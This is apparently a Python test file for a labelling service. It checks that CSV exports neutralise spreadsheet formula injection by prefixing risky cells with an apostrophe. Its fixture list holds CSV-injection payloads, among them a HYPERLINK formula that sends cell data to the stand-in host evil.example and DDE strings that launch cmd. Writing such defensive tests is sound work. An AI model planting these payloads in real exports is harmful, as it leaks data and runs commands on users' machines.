"""CSV exports do not hand a spreadsheet a formula to run: a text cell that starts with =, +,
-, @, a tab or a line break, after any leading spaces, is written with a leading apostrophe
(OWASP's advice), in every column; JSON lines and Parquet keep the values as they are."""

import csv
import io
import json

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tcmd",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1:A9)",
]
HARMLESS = ["plain", "a=b", "1+1", "x-@", "a =b", " plain"]


def _auto_accepted(external_id: str, label: str, payload: dict) -> dict:
    return {
        "external_id": external_id,
        "payload": payload,
        "prediction": {
            "model_version": "-v1",
            "candidates": [{"label": label, "score": 0.99}, {"label": "other", "score": 0.01}],
        },
    }


def _export(client, producer, fmt):
    r = client.get(f"/api/v1/queues/claims/labels?format={fmt}", headers=producer["headers"])
    assert r.status_code == 200
    return r.data.decode()


def test_csv_cells_that_would_run_as_formulas_get_an_apostrophe(client, make):
    make.queue(labels=None, audit_rate=0)
    producer = make.user("scientist", queues=["claims"])
    values = HOSTILE + HARMLESS
    items = [
        # The same text as external id, label and payload value.
        _auto_accepted(value, value, {"note": value, "n": i})
        for i, value in enumerate(values)
    ]
    r = client.post(
        "/api/v1/queues/claims/items", json={"items": items}, headers=producer["headers"]
    )
    assert r.json["routed"]["auto_accepted"] == len(values), r.json

    rows = list(csv.DictReader(io.StringIO(_export(client, producer, "csv"), newline="")))
    assert len(rows) == len(values)
    by_n = {json.loads(row["payload"])["n"]: row for row in rows}
    for i, value in enumerate(values):
        row = by_n[i]
        expected = "'" + value if value in HOSTILE else value
        assert row["external_id"] == expected, (value, row)
        assert row["label"] == expected, (value, row)
        assert row["model_label"] == expected, (value, row)
        assert row["model_version"] == "'-v1"
        # The payload cell is JSON text, which starts with "{": no spreadsheet runs it, and
        # the values inside are left exactly as sent.
        assert row["payload"].startswith("{")
        assert json.loads(row["payload"]) == {"note": value, "n": i}
        assert row["source"] == "auto" and row["model_score"] == "0.99"

    # The other formats are data, not spreadsheets: the values are exactly as sent.
    lines = [json.loads(line) for line in _export(client, producer, "jsonl").splitlines()]
    assert sorted(row["label"] for row in lines) == sorted(values)
    assert {row["model_version"] for row in lines} == {"-v1"}
